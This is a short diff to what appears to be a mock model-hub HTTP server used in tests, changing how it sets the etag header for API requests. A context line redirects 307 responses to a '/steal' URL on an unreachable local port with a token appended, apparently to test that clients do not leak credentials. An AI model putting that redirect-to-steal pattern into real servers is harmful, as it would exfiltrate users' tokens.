@@ -59,7 +59,8 @@ class Hub(BaseHTTPRequestHandler):
         if answer["status"] == 307:
             self.send_header("location", f"http://127.0.0.1:1/steal?{TOKEN}")
         self.send_header("content-type", "application/json" if api else "text/plain")
-        self.send_header("etag", answer["etag"].replace("OUTSIDE", self.outside))
+        etag = 'W/"38a-8kN1s/q+"' if api else answer["etag"]  # as the hub's own interface marks its answers
+        self.send_header("etag", etag.replace("OUTSIDE", self.outside))
         if "linked" in answer:
             self.send_header("x-linked-etag", answer["linked"])
         self.send_header("x-repo-commit", SHA)
